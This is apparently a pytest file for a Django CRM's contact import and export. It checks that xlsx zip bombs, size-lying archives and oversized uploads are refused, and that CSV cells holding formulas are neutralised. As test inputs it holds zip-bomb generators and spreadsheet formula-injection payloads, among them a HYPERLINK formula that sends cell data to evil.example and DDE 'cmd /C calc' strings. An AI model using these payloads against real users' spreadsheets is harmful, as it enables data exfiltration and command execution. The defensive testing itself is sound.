"""What an import will not do: inflate a zip bomb, read past its caps, keep a number that cannot exist, or
hand back a CSV that runs formulas in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
import struct
import time
import tracemalloc
import zipfile
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.test import Client
from django.utils import translation
from openpyxl import Workbook

from accounts.models import User
from accounts.services import api_token_create
from crm import imports
from crm.export import csv_cell_safe
from crm.imports import import_configure, import_run, import_start, rows_from_bytes
from crm.models import Contact, ContactImport, CustomField, ImportStatus
from tenants.models import Tenant
from tests.conftest import tenant_client

pytestmark = pytest.mark.django_db

MB = 2**20


def workbook(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_part(xlsx: bytes, name: str, chunks: Any) -> bytes:
    """The workbook with one part replaced by the streamed chunks (deflated as Excel does)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info.filename))
        with target.open(name, "w", force_zip64=True) as part:
            for chunk in chunks:
                part.write(chunk)
    return out.getvalue()


def excel_workbook(rows: list[list[str]], filler: Any = ()) -> bytes:
    """A workbook as Excel writes it: every text in the shared-strings table (openpyxl writes inline
    strings), then whatever `filler` chunks follow the real strings in that table."""
    xlsx = workbook(rows)
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    strings: list[str] = []

    def shared(match: re.Match[bytes]) -> bytes:
        strings.append(match.group(1).decode())
        return b't="s"><v>' + str(len(strings) - 1).encode() + b"</v>"

    sheet = re.sub(rb't="inlineStr"><is><t>(.*?)</t></is>', shared, source.read("xl/worksheets/sheet1.xml"))
    types = source.read("[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument'
        b'.spreadsheetml.sharedStrings+xml"/></Types>',
    )

    def table() -> Any:
        yield b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        yield from (b"<si><t>" + text.encode() + b"</t></si>" for text in strings)
        yield from filler
        yield b"</sst>"

    return with_part(
        with_part(with_part(xlsx, "xl/worksheets/sheet1.xml", [sheet]), "[Content_Types].xml", [types]),
        "xl/sharedStrings.xml",
        table(),
    )


def shared_strings_bomb(uncompressed: int) -> bytes:
    """A workbook whose shared-strings table inflates to `uncompressed` bytes from a few hundred KB."""
    item = b"<si><t>" + b"A" * 1000 + b"</t></si>"
    return excel_workbook([["phone", "name"], ["11987650001", "Ana"]], (item for _ in range(uncompressed // len(item))))


def test_a_workbook_with_a_shared_strings_table_reads() -> None:
    rows = [["phone", "name"], ["11987650001", "Ana"]]
    xlsx = excel_workbook(rows, [b"<si><t>unused</t></si>"])
    assert b't="s"' in zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml")
    assert list(rows_from_bytes(xlsx, "x.xlsx")) == rows


def refused_within_bounds(raw: bytes, name: str) -> tuple[ValidationError, float, int]:
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(ValidationError) as refused:
            list(rows_from_bytes(raw, name))
    finally:
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return refused.value, time.monotonic() - started, peak


def test_a_shared_strings_zip_bomb_is_refused_before_it_is_read() -> None:
    bomb = shared_strings_bomb(64 * MB)
    assert len(bomb) < 1 * MB  # tiny on the wire
    with translation.override("en"):
        error, seconds, peak = refused_within_bounds(bomb, "contatos.xlsx")
    assert "too large once uncompressed" in error.messages[0] and "sharedStrings.xml" in error.messages[0]
    assert seconds < 2
    assert peak < len(bomb) * 3 + 2 * MB  # the upload itself and a little: nothing was inflated


def test_a_part_that_inflates_too_much_is_refused_even_under_the_size_cap() -> None:
    xlsx = workbook([["phone"], ["11987650001"]])
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row>'
    sheet = [b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>']
    sheet += [row] * (8 * MB // len(row)) + [b"</sheetData></worksheet>"]
    inflating = with_part(xlsx, "xl/worksheets/sheet1.xml", sheet)
    info = zipfile.ZipFile(io.BytesIO(inflating)).getinfo("xl/worksheets/sheet1.xml")
    assert info.file_size < imports.XLSX_MAX_PART_BYTES and info.file_size > 200 * info.compress_size
    error, seconds, _peak = refused_within_bounds(inflating, "lista.xlsx")
    assert "sheet1.xml" in error.messages[0] and seconds < 2


def _lie_about_size(raw: bytes, name: str, size: int) -> bytes:
    """Rewrite the declared uncompressed size of one part in its local header and central directory."""
    data = bytearray(raw)
    encoded = name.encode()
    for signature, name_len_at, name_at, size_at in ((b"PK\x03\x04", 26, 30, 22), (b"PK\x01\x02", 28, 46, 24)):
        position = data.find(signature)
        while position != -1:
            (length,) = struct.unpack_from("<H", data, position + name_len_at)
            if bytes(data[position + name_at : position + name_at + length]) == encoded:
                struct.pack_into("<I", data, position + size_at, size)
            position = data.find(signature, position + 4)
    return bytes(data)


def test_a_part_that_lies_about_its_size_cannot_inflate_past_it() -> None:
    big = excel_workbook([["phone"], ["11987650001"]], [b"<si><t>" + b"A" * (40 * MB) + b"</t></si>"])
    lying = _lie_about_size(big, "xl/sharedStrings.xml", 1000)
    assert zipfile.ZipFile(io.BytesIO(lying)).getinfo("xl/sharedStrings.xml").file_size == 1000
    with translation.override("en"):
        error, _seconds, peak = refused_within_bounds(lying, "lista.xlsx")
    assert peak < 20 * MB  # zipfile stops at the declared size, then its CRC check fails
    assert "not a valid .xlsx workbook" in error.messages[0]


def test_a_declared_huge_dimension_does_not_pad_rows() -> None:
    xlsx = workbook([["phone", "name"], ["11987650001", "Ana"]])
    sheet = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml")
    padded = with_part(xlsx, "xl/worksheets/sheet1.xml", [sheet.replace(b'ref="A1:B2"', b'ref="A1:XFD1048576"')])
    started = time.monotonic()
    assert list(rows_from_bytes(padded, "x.xlsx")) == [["phone", "name"], ["11987650001", "Ana"]]
    assert time.monotonic() - started < 2


def test_rows_past_the_cap_stop_the_import_with_a_clear_error(
    in_tenant_a: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(imports, "MAX_ROWS", 5)
    body = "phone,name\n" + "".join(f"1198765{i:04d},Pessoa {i}\n" for i in range(6))
    for name, content in (
        ("lista.csv", body.encode()),
        ("lista.xlsx", workbook([["phone", "name"]] + [[f"1198765{i:04d}", f"P {i}"] for i in range(6)])),
    ):
        upload = import_start(file=ContentFile(content), original_name=name)
        import_configure(upload=upload, mapping=upload.mapping, update_existing=True, tag_ids=[])
        with translation.override("en"):
            done = import_run(import_id=upload.pk)
        assert done.status == ImportStatus.FAILED
        assert "more than 5 rows" in done.failure
        assert not Contact.objects.filter(phone__startswith="+55119876500").exists()  # nothing landed
    monkeypatch.setattr(imports, "MAX_ROWS", 6)
    upload = import_start(file=ContentFile(body.encode()), original_name="ok.csv")
    import_configure(upload=upload, mapping=upload.mapping, update_existing=True, tag_ids=[])
    assert import_run(import_id=upload.pk).created_count == 6


def test_an_upload_over_the_size_cap_is_refused_on_the_page(
    in_tenant_a: Any, tenant_a: Tenant, owner_a: User, settings: Any
) -> None:
    settings.IMPORT_MAX_BYTES = 2 * MB
    client = tenant_client(tenant_a, owner_a, lang="en")
    big = ContentFile(b"phone\n" + b"11987650001\n" * (2 * MB // 12 + 10), name="grande.csv")
    response = client.post("/contacts/import/", {"file": big})
    assert response.status_code == 400 and "larger than 2 MB" in response.content.decode()
    assert not ContactImport.objects.exists()
    bomb = ContentFile(shared_strings_bomb(64 * MB), name="bomba.xlsx")
    response = client.post("/contacts/import/", {"file": bomb})
    assert response.status_code == 400 and "too large once uncompressed" in response.content.decode()


REFUSED = """nome,telefone
Área inexistente,(20) 98765-4321
Sem DDD,98765-4321
Serviço,0800 123 4567
Científico,5.51198765432E+12
"=HYPERLINK(""http://evil.example"",""clique"")",abc
Float,5511987650777.0
"""


def test_each_refused_row_says_why_and_the_report_runs_no_formula(in_tenant_a: Any) -> None:
    upload = import_start(file=ContentFile(REFUSED.encode()), original_name="planilha.csv")
    import_configure(upload=upload, mapping=upload.mapping, update_existing=True, tag_ids=[])
    with translation.override("en"):
        done = import_run(import_id=upload.pk)
    assert (done.created_count, done.failed_count) == (1, 5)
    assert Contact.objects.filter(phone="+5511987650777").exists()  # the float's .0 was cleaned
    report = list(csv.reader(io.StringIO(done.error_report.read().decode("utf-8-sig"))))
    reasons = {row[1]: row[-1] for row in report[1:]}
    assert "area code 20 does not exist in Brazil" in reasons["Área inexistente"]
    assert "no area code" in reasons["Sem DDD"]
    assert "service number" in reasons["Serviço"]
    assert "scientific notation" in reasons["Científico"]
    assert '\'=HYPERLINK("http://evil.example","clique")' in reasons  # shown as text, not run


def test_export_neutralises_formula_cells_but_keeps_phones_and_numbers(
    in_tenant_a: Any, tenant_a: Tenant, owner_a: User
) -> None:
    CustomField.objects.create(key="saldo", label="Saldo", kind="text")
    CustomField.objects.create(key="nota", label="Nota", kind="text")
    Contact.objects.create(
        phone="+5511987650901",
        name='=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
        email="ana@example.com",
        custom_fields={"saldo": "-12.50", "nota": "@SUM(1+1)*cmd|' /C calc'!A0"},
    )
    Contact.objects.create(phone="+5511987650902", name="+1+cmd|' /C calc'!A0", custom_fields={"nota": "\t=1+1"})
    page = tenant_client(tenant_a, owner_a).get("/contacts/export/")
    _token, raw = api_token_create(user=owner_a, tenant=tenant_a, name="export")
    api = Client(HTTP_HOST="alpha.localhost", HTTP_AUTHORIZATION=f"Token {raw}").get("/api/v1/contacts/export/")
    for response in (page, api):
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
        first, second = sorted(rows, key=lambda r: r["phone"])
        assert first["phone"] == "+5511987650901"  # a plain E.164 number stays as it is
        assert first["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Clique")'
        assert first["saldo"] == "-12.50"
        assert first["nota"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert second["name"] == "'+1+cmd|' /C calc'!A0" and second["nota"] == "'\t=1+1"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+5511987654321", "+5511987654321"),
        ("+55 (11) 98765-4321", "+55 (11) 98765-4321"),
        ("-3", "-3"),
        ("-2+3", "'-2+3"),
        ("+", "'+"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\r=cmd", "'\r=cmd"),
        ("Ana", "Ana"),
        (12, 12),
    ],
)
def test_csv_cell_safe(cell: Any, shown: Any) -> None:
    assert csv_cell_safe(cell) == shown
